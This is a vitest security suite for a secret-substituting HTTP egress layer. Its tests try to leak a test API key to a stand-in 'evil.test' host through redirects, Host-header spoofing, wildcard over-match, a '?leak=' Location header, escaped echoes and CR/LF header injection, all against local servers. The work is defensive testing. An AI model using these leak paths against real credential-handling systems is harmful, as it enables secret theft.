/**
 * The security suite: one named test per way an egress layer can leak a value. Every test runs
 * against real HTTPS servers on 127.0.0.1 with a test CA. "Leak" below means the value reached a
 * host it is not allowed for, travelled without TLS, or came back to the sandbox.
 */
import { SecretgateAgent, SubstitutionBlocked, UnsafeSubstitution, Interceptor } from "@secretgate/undici"
import type { Readable } from "node:stream"
import { inspect } from "node:util"
import { Agent, fetch as undiciFetch, interceptors, request } from "undici"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { everything, last, makeWorld, type World } from "./support/fixture.js"
import { ALLOWANCE } from "../src/internal/readings.js"
import { READINGS_BUDGET } from "../src/internal/scrubber.js"
import { startUpstream, testAgentOptions } from "./support/upstream.js"

let world: World
beforeAll(async () => {
  world = await makeWorld()
})
afterAll(() => world.close())

const VALUE = "sk-live-9d8f7a6s5d4f"

/** Every request the upstream received for `host` (by Host header; all names resolve locally). */
const receivedBy = (host: string) => world.https.received.filter((r) => r.host?.split(":")[0] === host)
const sawValue = (host: string, value = VALUE) =>
  receivedBy(host).some((r) => `${r.url}\n${r.rawHeaders.join("\n")}\n${r.body.toString("latin1")}`.includes(value))

/** undici accepts async iterables as bodies; its types only list Readable. */
const streamed = (body: AsyncIterable<Buffer>) => body as unknown as Readable

const get = async (url: string, agent: SecretgateAgent | Agent, headers: Record<string, string> = {}, extra: object = {}) => {
  const response = await request(url, { headers, dispatcher: agent, ...extra })
  const body = await response.body.text()
  return { status: response.statusCode, headers: response.headers, body }
}

describe("redirects", () => {
  it("302 from an allowed host to a disallowed one: the next hop gets the placeholder", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { maxRedirections: 5 })
    const to = world.https.url("evil.test", "/echo")
    const result = await get(world.https.url("api.allowed.test", `/redirect?status=302&to=${encodeURIComponent(to)}`), box.agent, {
      "x-key": box.env.KEY!
    })
    expect(result.status).toBe(200)
    expect(sawValue("api.allowed.test")).toBe(true)
    expect(receivedBy("evil.test").length).toBeGreaterThan(0)
    expect(sawValue("evil.test")).toBe(false)
    expect(last(world.https).headers["x-key"]).toBe(box.env.KEY)
    expect(box.events).toContainEqual(expect.objectContaining({ type: "withheld", secret: "key", host: "evil.test", surface: "header", reason: "host-not-allowed" }))
  })

  for (const status of [307, 308]) {
    it(`${status} with a body from allowed to disallowed: the replayed body holds the placeholder`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { maxRedirections: 5 })
      const to = world.https.url("evil.test", "/echo")
      const result = await request(world.https.url("api.allowed.test", `/redirect?status=${status}&to=${encodeURIComponent(to)}`), {
        method: "POST",
        body: `token=${box.env.KEY}`,
        dispatcher: box.agent
      })
      await result.body.text()
      const atEvil = last(world.https)
      expect(atEvil.host).toContain("evil.test")
      expect(atEvil.method).toBe("POST")
      expect(atEvil.body.toString()).toBe(`token=${box.env.KEY}`)
      expect(sawValue("evil.test")).toBe(false)
    })
  }

  it("back and forth: allowed → disallowed → allowed substitutes only on the allowed hops", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { maxRedirections: 5 })
    const final = world.https.url("api.allowed.test", "/echo")
    const viaEvil = world.https.url("evil.test", `/redirect?status=308&to=${encodeURIComponent(final)}`)
    const before = world.https.received.length
    const result = await request(world.https.url("api.allowed.test", `/redirect?status=307&to=${encodeURIComponent(viaEvil)}`), {
      method: "PUT",
      headers: { "x-key": box.env.KEY! },
      body: `v=${box.env.KEY}`,
      dispatcher: box.agent
    })
    const echoed = await result.body.text()
    const hops = world.https.received.slice(before)
    expect(hops.map((h) => h.host!.split(":")[0])).toEqual(["api.allowed.test", "evil.test", "api.allowed.test"])
    expect(hops.map((h) => h.body.toString())).toEqual([`v=${VALUE}`, `v=${box.env.KEY}`, `v=${VALUE}`])
    expect(hops[1]!.headers["x-key"]).toBe(box.env.KEY)
    expect(echoed).not.toContain(VALUE)
  })

  it("fetch follows redirects itself: each hop is decided for its own destination", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const to = world.https.url("evil.test", "/echo")
    const response = await undiciFetch(world.https.url("api.allowed.test", `/redirect?status=307&to=${encodeURIComponent(to)}`), {
      method: "POST",
      headers: { "x-key": box.env.KEY! },
      body: `token=${box.env.KEY}`,
      dispatcher: box.agent
    })
    expect(await response.text()).not.toContain(VALUE)
    expect(sawValue("evil.test")).toBe(false)
    expect(last(world.https).body.toString()).toBe(`token=${box.env.KEY}`)
  })

  it("the wrong interceptor order (redirect inside substitution) cannot replay values elsewhere", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    // secretgate outermost, redirect inside it: the unsafe way to compose
    const unsafe = new Agent(testAgentOptions).compose(
      interceptors.redirect({ maxRedirections: 5 }),
      Interceptor.make({ resolver: await world.gate.resolver(box.mount) })
    )
    const to = world.https.url("evil.test", "/echo")
    const before = receivedBy("evil.test").length
    const response = await request(world.https.url("api.allowed.test", `/redirect?status=307&to=${encodeURIComponent(to)}`), {
      method: "POST",
      headers: { "x-key": box.env.KEY! },
      body: `token=${box.env.KEY}`,
      dispatcher: unsafe
    })
    await response.body.text()
    // the inner redirect interceptor is disarmed: the 307 comes back instead of being followed
    expect(response.statusCode).toBe(307)
    expect(receivedBy("evil.test").length).toBe(before)
    expect(sawValue("evil.test")).toBe(false)
    await unsafe.close()
  })

  it("a value echoed in a Location header is scrubbed before any redirect logic sees it", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const response = await request(world.https.url("api.allowed.test", `/redirect?status=302&to=${encodeURIComponent(`https://evil.test/?leak=${box.env.KEY}`)}`), {
      dispatcher: box.agent
    })
    await response.body.text()
    expect(last(world.https).url).toContain(VALUE) // the allowed host got the value in the query
    expect(response.headers.location).toBe(`https://evil.test/?leak=${box.env.KEY}`)
  })
})

describe("destination matching", () => {
  it("a Host header naming an allowed host does not make another origin allowed", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    await get(world.https.url("evil.test", "/"), box.agent, { host: "api.allowed.test", "x-key": box.env.KEY! })
    const received = last(world.https)
    expect(received.headers["x-key"]).toBe(box.env.KEY)
    expect(received.host).toBe("api.allowed.test")
    expect(box.events).toEqual([expect.objectContaining({ type: "withheld", secret: "key", host: "evil.test", surface: "header", reason: "host-mismatch" })])
  })

  it("wildcard over-match: *.example.com admits example.com and subdomains only", async () => {
    const box = await world.sandbox({ key: [VALUE, ["*.example.com"]] })
    const cases: ReadonlyArray<readonly [string, boolean]> = [
      ["example.com", true],
      ["api.example.com", true],
      ["badexample.com", false],
      ["example.com.evil.com", false]
    ]
    for (const [host, substituted] of cases) {
      await get(world.https.url(host, "/"), box.agent, { "x-key": box.env.KEY! })
      expect([host, last(world.https).headers["x-key"]]).toEqual([host, substituted ? VALUE : box.env.KEY])
    }
  })

  it("trailing-dot and upper-case destinations are normalised, not bypasses", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    await get(world.https.url("API.Allowed.TEST", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe(VALUE)
    const evil = await world.sandbox({ key: [VALUE, ["evil.test"]] })
    // a trailing dot must neither sneak past a restriction nor break an allowed match
    await get(world.https.url("api.allowed.test.", "/"), evil.agent, { "x-key": evil.env.KEY! }, {}).catch(() => undefined)
    expect(sawValue("api.allowed.test.")).toBe(false)
    await get(world.https.url("api.allowed.test.", "/"), box.agent, { "x-key": box.env.KEY! }).catch(() => undefined)
    const events = box.events.filter((e) => e.type === "substituted")
    expect(events.map((e) => e.host)).toEqual(["api.allowed.test", "api.allowed.test"])
  })

  it("an IP-literal destination gets only unrestricted secrets", async () => {
    const box = await world.sandbox({ open: ["open-value-123", []], scoped: [VALUE, ["api.allowed.test"]] }, { unrestricted: "allow" })
    await get(world.https.url("127.0.0.1", "/"), box.agent, { "x-open": box.env.OPEN!, "x-scoped": box.env.SCOPED! })
    expect(last(world.https).headers["x-open"]).toBe("open-value-123")
    expect(last(world.https).headers["x-scoped"]).toBe(box.env.SCOPED)
  })

  it("plain http: never without opt-in, only for the hosts opted in", async () => {
    const box = await world.sandbox({ key: [VALUE, []] }, { unrestricted: "allow" })
    await get(world.http.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.http).headers["x-key"]).toBe(box.env.KEY)
    expect(box.events).toContainEqual(expect.objectContaining({ type: "withheld", secret: "key", host: "api.allowed.test", surface: "header", reason: "insecure-scheme" }))
    const optedIn = await world.sandbox({ key: [VALUE, []] }, { allowHttp: ["127.0.0.1"], unrestricted: "allow" })
    await get(world.http.url("127.0.0.1", "/"), optedIn.agent, { "x-key": optedIn.env.KEY! })
    expect(last(world.http).headers["x-key"]).toBe(VALUE)
    await get(world.http.url("api.allowed.test", "/"), optedIn.agent, { "x-key": optedIn.env.KEY! })
    expect(last(world.http).headers["x-key"]).toBe(optedIn.env.KEY)
  })

  it("a secret not mounted for this sandbox is never substituted, even if its placeholder is known", async () => {
    const mine = await world.sandbox({ mine: ["mine-value-1", []] }, { unrestricted: "allow" })
    const theirs = await world.gate.secret.create({ name: "someone-elses", value: "theirs-value-1" })
    await get(world.https.url("api.allowed.test", "/"), mine.agent, { "x-theirs": theirs.placeholder, "x-mine": mine.env.MINE! })
    expect(last(world.https).headers["x-theirs"]).toBe(theirs.placeholder)
    expect(last(world.https).headers["x-mine"]).toBe("mine-value-1")
    expect(mine.events).toContainEqual(expect.objectContaining({ type: "withheld", secret: undefined, host: "api.allowed.test", surface: "header", reason: "not-mounted" }))
  })

  it("placeholders back to back or glued to text are all substituted", async () => {
    const VALUE2 = "sk-live-2second2value"
    const box = await world.sandbox({ key: [VALUE, []], key2: [VALUE2, []] }, { unrestricted: "allow" })
    await get(world.https.url("api.allowed.test", "/"), box.agent, {
      "x-a": `${box.env.KEY}a`,
      "x-b": `${box.env.KEY}${box.env.KEY2}`,
      "x-c": `${box.env.KEY}-`,
      "x-d": `abc${box.env.KEY2}def`
    })
    expect(last(world.https).headers["x-a"]).toBe(`${VALUE}a`)
    expect(last(world.https).headers["x-b"]).toBe(`${VALUE}${VALUE2}`)
    expect(last(world.https).headers["x-c"]).toBe(`${VALUE}-`)
    expect(last(world.https).headers["x-d"]).toBe(`abc${VALUE2}def`)
  })
})

describe("bodies", () => {
  it("a placeholder split across body chunks at every offset is still found", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const text = `a=${box.env.KEY}&b=1`
    for (let split = 1; split < text.length; split++) {
      await (await request(world.https.url("api.allowed.test", "/"), {
        method: "POST",
        body: streamed((async function*() {
          yield Buffer.from(text.slice(0, split))
          yield Buffer.from(text.slice(split))
        })()),
        dispatcher: box.agent
      })).body.text()
      expect([split, last(world.https).body.toString()]).toEqual([split, `a=${VALUE}&b=1`])
    }
  })

  it("a 10 MB streamed body is never buffered whole: the upstream gets bytes before the source ends", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const chunk = Buffer.alloc(64 * 1024, ".")
    const before = world.https.received.length
    const startBytes = world.https.progress.bytes
    const source = async function*() {
      for (let i = 0; i < 160; i++) {
        yield i % 40 === 0 ? Buffer.concat([chunk, Buffer.from(box.env.KEY!)]) : chunk
        if (i === 80) {
          // Halfway: wait until the upstream has received part of the body. An interceptor that
          // buffered the whole stream would never send anything before this generator ends.
          const deadline = Date.now() + 10_000
          while (world.https.progress.bytes - startBytes < chunk.length) {
            if (Date.now() > deadline) throw new Error("nothing reached the upstream: the body is being buffered")
            await new Promise((resolve) => setTimeout(resolve, 5))
          }
        }
      }
    }
    const response = await request(world.https.url("api.allowed.test", "/"), { method: "POST", body: streamed(source()), dispatcher: box.agent })
    await response.body.text()
    const received = world.https.received[before]!
    expect(received.chunked).toBe(true)
    expect(received.body.length).toBe(160 * chunk.length + 4 * VALUE.length)
    expect(received.body.toString("latin1").split(VALUE).length - 1).toBe(4)
  })
})

describe("responses", () => {
  it("an echoing endpoint returns the placeholder, not the value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const result = await request(world.https.url("api.allowed.test", `/echo?k=${box.env.KEY}`), {
      method: "POST",
      headers: { authorization: `Bearer ${box.env.KEY}`, "content-type": "application/json" },
      body: JSON.stringify({ key: box.env.KEY }),
      dispatcher: box.agent
    })
    const echoed = await result.body.text()
    expect(everything(world.https)).toContain(VALUE)
    expect(echoed).not.toContain(VALUE)
    const parsed = JSON.parse(echoed) as { headers: Record<string, string>; body: string; url: string }
    expect(parsed.headers.authorization).toBe(`Bearer ${box.env.KEY}`)
    expect(parsed.url).toBe(`/echo?k=${box.env.KEY}`)
    expect(JSON.parse(parsed.body)).toEqual({ key: box.env.KEY })
  })

  it("echoes split across response chunks of every small size are scrubbed", async () => {
    const value = 'v@l"ue/with\\escapes-and-ünïcode'
    const box = await world.sandbox({ key: [value, ["api.allowed.test"]] })
    for (const size of [1, 2, 3, 5, 7, 11]) {
      const result = await request(world.https.url("api.allowed.test", `/echo-chunked?size=${size}`), {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ k: box.env.KEY }),
        dispatcher: box.agent
      })
      const echoed = await result.body.text()
      expect(JSON.parse(last(world.https).body.toString("utf8"))).toEqual({ k: value })
      expect(echoed).not.toContain(JSON.stringify(value).slice(1, -1))
      expect(echoed).not.toContain(JSON.stringify(JSON.stringify(value)).slice(3, -3)) // echo of a JSON body in JSON
      expect(echoed).not.toContain(value)
      expect(JSON.parse(JSON.parse(echoed).body)).toEqual({ k: box.env.KEY })
    }
  })

  it("echoes in response headers, Basic credentials and trailers are scrubbed", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const basic = `Basic ${Buffer.from(`me:${box.env.KEY}`).toString("base64")}`
    const headers = await request(world.https.url("api.allowed.test", "/echo-headers"), {
      headers: { "x-key": box.env.KEY!, authorization: basic },
      dispatcher: box.agent
    })
    await headers.body.text()
    expect(headers.headers["x-echo-x-key"]).toBe(box.env.KEY)
    expect(headers.headers["x-echo-authorization"]).toBe(basic)
    expect(inspect(headers.headers)).not.toContain(VALUE)

    const trailers = await request(world.https.url("api.allowed.test", "/echo-trailers"), {
      headers: { authorization: `Bearer ${box.env.KEY}` },
      dispatcher: box.agent
    })
    await trailers.body.text()
    expect(last(world.https).headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(trailers.trailers["x-echo"]).toBe(`Bearer ${box.env.KEY}`)
  })

  it("a compressed echo is refused, not delivered unscrubbed", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const attempt = undiciFetch(world.https.url("api.allowed.test", "/echo-gzip"), {
      headers: { "x-key": box.env.KEY! },
      dispatcher: box.agent
    }).then((response) => response.text())
    await expect(attempt).rejects.toThrow()
    expect(last(world.https).headers["accept-encoding"]).toBe("identity")
  })

  for (const name of ["content-encoding", "Content-Encoding", "CONTENT-ENCODING"]) {
    it(`a compressed echo is refused through undici.request too (raw header name ${name})`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
      const attempt = request(world.https.url("api.allowed.test", `/echo-gzip?name=${name}`), {
        headers: { "x-key": box.env.KEY! },
        dispatcher: box.agent
      }).then((response) => response.body.text())
      await expect(attempt).rejects.toThrow(/gzip-encoded although identity was requested/)
      expect(last(world.https).headers["x-key"]).toBe(VALUE)
    })
  }

  it("a response only the readings automaton reads in step, past every budget, is cut off: the value never passes", async () => {
    // a hostile upstream that knows the value: `\u0051…` (the value, escaped), then `\\&#92;u0051…`
    // cut between its backslashes, where the stacks would read the next chunk out of step, then
    // escapes that each need the automaton to build a new state
    const value = "QZX7e2e4"
    const escaped = `\\u0051${value.slice(1)}`
    const head = `${escaped}\\\\&`
    const tail = `#92;u0051${value.slice(1)} ` + Array.from({ length: 300 }, (_, i) => `\\u${(0x100 + i).toString(16).padStart(4, "0")}&#${i};`).join("")
    world.https.replies.set("/dense-head", [head])
    world.https.replies.set("/dense", [head, tail])
    const box = await world.sandbox({ dense: [value, ["api.allowed.test"]] })
    // (the automaton's states for the first chunk, built)
    expect(await (await request(world.https.url("api.allowed.test", "/dense-head"), { dispatcher: box.agent })).body.text()).not.toContain(value.slice(1))
    const saved = [{ ...ALLOWANCE }, { ...READINGS_BUDGET }] as const
    Object.assign(ALLOWANCE, { cap: 0, left: 0, perSecond: 0 })
    Object.assign(READINGS_BUDGET, { base: 0, perByte: 0, outOfStep: 0 })
    try {
      // undici's older handler API (`request`, `fetch`) and its newer one (`dispatch` with `onResponseStart`)
      const response = await request(world.https.url("api.allowed.test", "/dense"), { dispatcher: box.agent })
      const got: Array<Buffer> = []
      const read = async () => {
        for await (const chunk of response.body) got.push(chunk as Buffer)
      }
      await expect(read()).rejects.toMatchObject({ code: "SECRETGATE_REFUSED", message: expect.stringMatching(/cut off/) })
      expect(Buffer.concat(got).toString("latin1")).not.toContain(value.slice(1))
      await expect(undiciFetch(world.https.url("api.allowed.test", "/dense"), { dispatcher: box.agent }).then((r) => r.text())).rejects.toThrow()
      const newer = await new Promise<{ body: string; error: Error | undefined }>((resolve) => {
        const body: Array<Buffer> = []
        const url = new URL(world.https.url("api.allowed.test", "/dense"))
        box.agent.dispatch({ origin: url.origin, path: url.pathname, method: "GET" }, {
          onResponseStart: () => {},
          onResponseData: (_controller, chunk) => void body.push(chunk),
          onResponseEnd: () => resolve({ body: Buffer.concat(body).toString("latin1"), error: undefined }),
          onResponseError: (_controller, error) => resolve({ body: Buffer.concat(body).toString("latin1"), error })
        })
      })
      expect(newer.error).toMatchObject({ code: "SECRETGATE_REFUSED" })
      expect(newer.body).not.toContain(value.slice(1))
    } finally {
      Object.assign(ALLOWANCE, saved[0], { at: Date.now() })
      Object.assign(READINGS_BUDGET, saved[1])
    }
    // within the budget, the same response is read whole and scrubbed
    const whole = await (await request(world.https.url("api.allowed.test", "/dense"), { dispatcher: box.agent })).body.text()
    expect(whole).not.toContain(value.slice(1))
    expect(whole.split(box.env.DENSE!).length).toBe(3)
  })

  it("an allowed host's response is scrubbed even when the request carried no placeholder", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const result = await get(world.https.url("api.allowed.test", `/echo?reflect=${encodeURIComponent(VALUE)}`), box.agent)
    expect(result.body).not.toContain(VALUE)
    expect(result.body).toContain(box.env.KEY)
  })
})

describe("values that must not be sent", () => {
  for (const [label, value] of [["CR/LF", "abc\r\nX-Injected: 1"], ["NUL", "abc\u0000def"], ["non-Latin-1", "abc-€-def"]] as const) {
    it(`a value with ${label} is never put into a header: the request fails, nothing is sent`, async () => {
      const box = await world.sandbox({ key: [value, ["api.allowed.test"]] })
      const before = world.https.received.length
      const error = await request(world.https.url("api.allowed.test", "/"), { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })
        .then(() => undefined, (e: unknown) => e)
      expect(error).toBeInstanceOf(UnsafeSubstitution)
      expect(String((error as Error).message)).toMatch(/cannot be sent in header "x-key"/)
      expect(inspect(error)).not.toContain("abc")
      expect(world.https.received.length).toBe(before)
    })
  }

  it("the same value goes into a URL percent-encoded, so it cannot split the request line", async () => {
    const box = await world.sandbox({ key: ["abc\r\nX-Injected: 1", ["api.allowed.test"]] })
    await get(world.https.url("api.allowed.test", `/?k=${box.env.KEY}`), box.agent)
    expect(last(world.https).url).toBe(`/?k=${encodeURIComponent("abc\r\nX-Injected: 1")}`)
    expect(last(world.https).headers["x-injected"]).toBeUndefined()
  })

  it("onDisallowed: block fails the request before any byte is sent", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
    const before = world.https.received.length
    const error = await request(world.https.url("evil.test", "/"), {
      method: "POST",
      body: `k=${box.env.KEY}`,
      dispatcher: box.agent
    }).then(() => undefined, (e: unknown) => e)
    expect(error).toBeInstanceOf(SubstitutionBlocked)
    expect((error as SubstitutionBlocked).message).toBe(
      `request to evil.test blocked: its body holds the placeholder of secret "key_${/_(\d+)$/.exec(box.mount.secrets[0]!.name)![1]}", which may not be sent there (host-not-allowed)`
    )
    expect(world.https.received.length).toBe(before)
    expect(box.events).toEqual([expect.objectContaining({ type: "blocked", secret: "key", host: "evil.test", surface: "body", reason: "host-not-allowed" })])
    // an allowed host still works
    await get(world.https.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe(VALUE)
  })

  it("onDisallowed: block cuts a streamed body off before the chunk with the placeholder", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
    const error = await request(world.https.url("evil.test", "/"), {
      method: "POST",
      body: streamed((async function*() {
        yield Buffer.from("harmless prefix;")
        yield Buffer.from(`k=${box.env.KEY}`)
      })()),
      dispatcher: box.agent
    }).then(() => undefined, (e: unknown) => e)
    expect(error).toBeInstanceOf(SubstitutionBlocked)
    expect(sawValue("evil.test", box.env.KEY)).toBe(false)
  })
})

describe("freshness", () => {
  it("an updated value is used by the very next request; a deleted secret is no longer substituted", async () => {
    const box = await world.sandbox({ key: ["first-value-1", ["api.allowed.test"]] })
    await get(world.https.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe("first-value-1")
    await world.gate.secret.update(box.ids.key!, { value: "second-value-2" })
    await get(world.https.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe("second-value-2")
    await world.gate.secret.update(box.ids.key!, { hosts: ["other.test"] })
    await get(world.https.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe(box.env.KEY)
    await world.gate.secret.delete(box.ids.key!)
    await get(world.https.url("other.test", "/"), box.agent, { "x-key": box.env.KEY! })
    expect(last(world.https).headers["x-key"]).toBe(box.env.KEY)
    expect(box.events.at(-1)).toEqual(expect.objectContaining({ type: "withheld", secret: "key", host: "other.test", surface: "header", reason: "unavailable" }))
  })
})

describe("no value in anything the sandbox can observe", () => {
  it("errors, audit events and inspect output of the agent never hold a value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
    await get(world.https.url("api.allowed.test", "/echo"), box.agent, { "x-key": box.env.KEY! })
    const error = await get(world.https.url("evil.test", "/"), box.agent, { "x-key": box.env.KEY! }).catch((e: unknown) => e)
    for (const observed of [inspect(error, { depth: Infinity }), JSON.stringify(box.events), inspect(box.agent, { depth: 4 }), inspect(box.mount, { depth: Infinity })]) {
      expect(observed).not.toContain(VALUE)
    }
  })

  it("a separate upstream that closes early still gets nothing unexpected", async () => {
    const up = await startUpstream()
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    await up.close()
    const error = await get(up.url("api.allowed.test", "/"), box.agent, { "x-key": box.env.KEY! }).catch((e: unknown) => e)
    expect(error).toBeInstanceOf(Error)
    expect(inspect(error, { depth: Infinity })).not.toContain(VALUE)
  })
})
